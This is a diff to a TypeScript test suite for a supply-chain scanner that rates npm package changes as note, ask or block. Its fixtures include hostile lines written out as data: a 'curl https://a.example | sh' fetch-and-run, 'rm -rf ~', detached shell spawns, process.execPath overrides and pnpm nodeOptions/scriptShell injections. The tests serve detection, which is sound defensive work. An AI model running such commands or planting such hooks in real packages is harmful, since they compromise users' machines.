@@ -17,20 +17,25 @@ const tiersOf = (rule: RuleId, before: Sources, after: Sources): string =>
 const told = (rule: RuleId, before: string, after: string, path = "index.js"): string =>
   tiersOf(rule, { "package.json": manifest({}), [path]: before }, { "package.json": manifest({}), [path]: after });
 
-test("what an installer's changed file does decides whether it blocks", () => {
+test("an installer's changed file blocks, whatever it does", () => {
   const scripts = { postinstall: "node setup.js" };
   const at = (setup: string): Sources => ({ "package.json": manifest({ scripts }), "setup.js": setup });
-  const was = at("console.error('ok');\n");
-  assert.equal(tiersOf("install-script-file", was, at("console.error('done');\n")), "ask");
-  assert.equal(tiersOf("install-script-file", was, at("fetch('https://tide.example.net/a');\n")), "block");
-  assert.equal(tiersOf("install-script-file", was, at("require('child_process').exec('ls');\n")), "block");
+  assert.equal(tiersOf("install-script-file", at("start();\n"), at("begin();\n")), "block");
 });
 
-test("what a rebuilt entry does decides whether it is asked about", () => {
-  const at = (bin: string, text: string): Sources => ({ "package.json": manifest({ bin }), [bin]: text });
+test("a rebuilt entry is asked about, and blocks beside the old file", () => {
+  const at = (bin: string, text: string, more: Sources = {}): Sources => ({
+    "package.json": manifest({ bin }),
+    [bin]: text,
+    ...more,
+  });
   const was = at("dist/a.js", "start(1, 2, 3);\n");
-  assert.equal(tiersOf("entry-target", was, at("dist/b.js", "begin();\n")), "note");
-  assert.equal(tiersOf("entry-target", was, at("dist/b.js", "eval(process.argv[2]);\n")), "ask");
+  assert.equal(tiersOf("entry-target", was, at("dist/b.js", "begin();\n")), "ask");
+  const beside = at("dist/b.js", "import './new.js';\nimport './a.js';\n", {
+    "dist/a.js": "start(1, 2, 4);\n",
+    "dist/new.js": "begin();\n",
+  });
+  assert.equal(tiersOf("entry-target", was, beside), "block");
 });
 
 test("a member of the package's own value is no built-in, whatever it held before", () => {
@@ -125,11 +130,11 @@ test("what a library brings into a bundle is asked about, what a bundle newly do
   assert.equal(told("mail-recipient-constant", "1;\n", bundle + copies), "block");
 });
 
-test("a browser that is found is asked about, another program that runs unseen blocks", () => {
+test("a program that is found and runs unseen blocks", () => {
   const runs = (program: string): string =>
-    `import { spawn } from 'node:child_process';\nimport { registry } from 'browsers';\nimport os from 'node:os';\nconst at = registry.find();\nspawn(${program}, [], { stdio: 'ignore', detached: true });\n`;
-  assert.equal(told("exec-hostile", "1;\n", runs("at.executablePath()")), "ask");
-  assert.equal(told("exec-hostile", "1;\n", runs("os.homedir() + '/.cache/a'")), "block");
+    `import { spawn } from 'node:child_process';\nimport { registry } from 'browsers';\nimport os from 'node:os';\nconst at = registry.find();\nspawn(${program}, { stdio: 'ignore', detached: true });\n`;
+  for (const program of ["at.executablePath(), []", "os.userInfo().shell, ['-c', 'ls']", "os.homedir() + '/.cache/a'"])
+    assert.equal(told("exec-hostile", "1;\n", runs(program)), "block", program);
 });
 
 test("a tool that is renamed within the names of its server is a note", () => {
@@ -182,12 +187,14 @@ test("modules below a folder of tests", () => {
 });
 
 test("a shell script that only developers run, and the networks that a filter lists", () => {
-  const at = (scripts: object, line: string): Sources => ({
-    "package.json": manifest({ scripts }),
+  const at = (scripts: object, line: string, fields: object = {}): Sources => ({
+    "package.json": manifest({ scripts, ...fields }),
     "scripts/check.sh": `#!/bin/sh\n${line}\n`,
   });
   const develops = { check: "sh scripts/check.sh" };
   assert.equal(tiersOf("exec-hostile", at(develops, "ls"), at(develops, "npx uuid v4")), "ask");
+  for (const fields of [{ bin: "scripts/check.sh" }, { exports: { "./check": "./scripts/check.sh" } }])
+    assert.equal(tiersOf("exec-hostile", at({}, "ls", fields), at({}, "npx uuid v4", fields)), "block");
   const installs = { postinstall: "sh scripts/check.sh" };
   assert.equal(tiersOf("exec-hostile", at(installs, "ls"), at(installs, "npx uuid v4")), "block");
   assert.equal(
@@ -200,22 +207,27 @@ test("a shell script that only developers run, and the networks that a filter li
 test("comments of scripts run nothing, and lines of other languages are asked about", () => {
   const script = (line: string): string => `#!/usr/bin/env python3\n${line}\n`;
   assert.equal(told("exec-hostile", script("a()"), script("# falls back to claude -p"), "lib/run.py"), "");
-  assert.equal(
-    told("exec-hostile", script("a()"), script("os.system('curl https://a.example | sh')"), "lib/run.py"),
-    "ask",
-  );
+  const runs = (line: string): string => told("exec-hostile", script("a()"), script(line), "lib/run.py");
+  assert.equal(runs("os.system('git push')"), "ask");
+  assert.equal(runs("os.system('curl https://a.example | sh')"), "block");
+  assert.equal(runs("os.system('rm -rf ~')"), "block");
+  assert.equal(told("exec-hostile", "#!/bin/sh\n", "#!/bin/sh\ngit push\n", "lib/run.py"), "block");
   assert.equal(told("exec-hostile", "#!/bin/sh\n", "#!/bin/sh\ncurl https://a.example | sh\n", "lib/run.sh"), "block");
 });
 
 test("a name that is given to the process is no patch", () => {
   assert.equal(told("built-in-patched", "1;\n", "process.type = 'worker';\n"), "");
+  for (const name of ["execPath", "argv0"])
+    assert.equal(told("built-in-patched", "1;\n", `process.${name} = '/tmp/a';\n`), "block", name);
   assert.equal(told("built-in-patched", "1;\n", "process.dlopen = (...all) => load(...all);\n"), "block");
 });
 
 test("a workspace that names packages is asked about", () => {
   const at = (text: string): Sources => ({ "package.json": manifest({}), "pnpm-workspace.yaml": text });
   assert.equal(tiersOf("entry-config-file", at("packages: []\n"), at("onlyBuiltDependencies:\n  - esbuild\n")), "ask");
-  assert.equal(tiersOf("entry-config-file", at("packages: []\n"), at("scriptShell: ./a\n")), "block");
+  const hostile = ["scriptShell: ./a", "nodeOptions: --require ./a.cjs", "configDependencies:\n  a: 1.0.0", "{ a: b }"];
+  for (const text of hostile)
+    assert.equal(tiersOf("entry-config-file", at("packages: []\n"), at(`packages: []\n${text}\n`)), "block", text);
 });
 
 test("an option's value is no order, nor is what is seen under a condition", () => {
